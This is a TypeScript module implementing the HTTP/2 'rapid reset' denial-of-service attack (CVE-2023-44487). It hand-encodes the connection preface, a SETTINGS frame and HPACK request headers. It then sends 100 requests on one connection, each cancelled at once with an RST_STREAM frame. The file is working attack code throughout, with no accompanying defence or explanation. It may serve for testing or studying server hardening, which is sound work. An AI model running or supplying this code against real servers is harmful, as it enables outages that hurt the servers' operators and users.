/**
 * The "rapid reset" of HTTP/2 (CVE-2023-44487): requests that are called off as
 * soon as they are sent, so that their number is bounded by nothing but the
 * server.
 * @module
 */

import type { Wire } from "./wire.ts";

const PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const Frame = { headers: 1, reset: 3, settings: 4 } as const;

/** END_STREAM and END_HEADERS. */
const WHOLE_REQUEST = 0x5;

/** Error code CANCEL. */
const CANCEL = Uint8Array.of(0, 0, 0, 8);

/** Requests on one connection. */
const REQUESTS = 100;

/** Sends them all at once. */
export async function rapidReset(wire: Wire, path: string): Promise<void> {
  const frames = [frame(Frame.settings, 0, 0, new Uint8Array())];
  for (let i = 0; i < REQUESTS; i++) {
    const stream = 2 * i + 1; // a client's streams are odd
    frames.push(
      frame(Frame.headers, WHOLE_REQUEST, stream, request(path)),
      frame(Frame.reset, 0, stream, CANCEL),
    );
  }
  await wire.send(PREFACE);
  await wire.send(new Uint8Array(frames.flatMap((bytes) => [...bytes])));
}

/** `GET path` in HPACK: three fields of the static table, two literals. */
function request(path: string): Uint8Array {
  return Uint8Array.of(
    0x82, // :method GET
    0x86, // :scheme http
    ...literal(0x04, path), // :path
    ...literal(0x01, "shop"), // :authority
  );
}

/** A field whose name is in the static table, and whose value is not indexed. */
function literal(name: number, value: string): readonly number[] {
  return [name, value.length, ...new TextEncoder().encode(value)];
}

/** One frame: its length, type, flags and stream, then its payload. */
export function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Uint8Array,
): Uint8Array {
  const bytes = new Uint8Array(9 + payload.length);
  const view = new DataView(bytes.buffer);
  view.setUint32(0, payload.length << 8 | type);
  view.setUint8(4, flags);
  view.setUint32(5, stream);
  bytes.set(payload, 9);
  return bytes;
}
